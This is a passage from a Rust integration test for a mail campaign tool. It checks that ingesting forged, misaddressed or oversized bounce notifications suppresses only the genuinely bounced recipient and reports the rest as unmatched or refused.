            .lines()
            .find(|l| l.contains(email))
            .unwrap()
            .split(',')
            .nth(3)
            .unwrap()
            .to_string()
    };
    let (anna, bert) = (mid("anna@contoso.example"), mid("bert@contoso.example"));
    let dsns = dir.path().join("dsns");
    std::fs::create_dir(&dsns).unwrap();
    let write = |n: &str, text: String| std::fs::write(dsns.join(n), text).unwrap();
    // 1. A Message-ID that is none of ours, naming a real recipient.
    write(
        "1-forged-id.eml",
        common::dsn(
            "<cmp_forged.2@partnerflow.example>",
            &["carl@contoso.example".to_string()],
        ),
    );
    // 2. Bert's real Message-ID, naming someone else.
    write(
        "2-other-recipient.eml",
        common::dsn(&bert, &["victim@contoso.example".to_string()]),
    );
    // 3. Anna's Message-ID naming 5,000 made-up addresses and Anna: refused whole.
    let mut many = common::evil_addresses(5000);
    many.push("anna@contoso.example".into());
    let big = common::dsn(&anna, &many);
    assert!(big.len() > 300_000);
    write("3-many.eml", big);
    // 4. Anna's Message-ID naming Anna and two others: Anna's counts, the others do not.
    let mut few = common::evil_addresses(2);
    few.insert(1, "ANNA@contoso.example".into());
    write("4-real.eml", common::dsn(&anna, &few));
    let o = cli.run(&["bounces", "ingest", dsns.to_str().unwrap()]);
    assert!(!o.ok, "the refused DSN makes the exit status 1");
    assert!(
        o.stderr
            .contains("3-many.eml: delivery status notification naming 5001 recipients"),
        "{}",
        o.stderr
    );
    assert!(
        o.stdout.contains("1 hard bounces")
            && o.stdout.contains("4 matching no message we sent")
            && o.stdout.contains("1 not bounces"),
        "{}",
        o.stdout
    );
    let sup = cli.ok(&["suppressions", "list", "--json"]);
    let sup: serde_json::Value = serde_json::from_str(&sup).unwrap();
    let emails: Vec<&str> = sup
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["email"].as_str().unwrap())
        .collect();
    assert_eq!(
        emails,
        vec!["anna@contoso.example"],
        "only Anna is suppressed"
    );
    let st = cli.ok(&["campaign", "status", &id]);
    assert!(
        st.contains("3 recipients: 0 pending, 0 sending, 3 sent, 0 reminded, 0 failed, 1 bounced"),
        "{st}"
    );
    let un = cli.ok(&["bounces", "list", "--unmatched"]);
    assert_eq!(
        un.lines().filter(|l| l.contains("unmatched: ")).count(),
        4,
        "{un}"
    );
    assert!(
        un.contains("carl@contoso.example <cmp_forged.2@partnerflow.example>  unmatched: no message we sent has this Message-ID"),
        "{un}"
    );
    assert!(
        un.contains(&format!("victim@contoso.example {bert}  unmatched: the recipient is not that message's recipient")),
        "{un}"
    );
    assert!(un.contains("4 bounces matched no message we sent"), "{un}");
    assert!(!un.contains("anna@contoso.example"), "{un}");
    let all = cli.ok(&["bounces", "list"]);
    assert!(
        all.contains(&format!(
            "ANNA@contoso.example {anna}  campaign {id} line 2, suppressed"
        )),
        "{all}"
    );
}
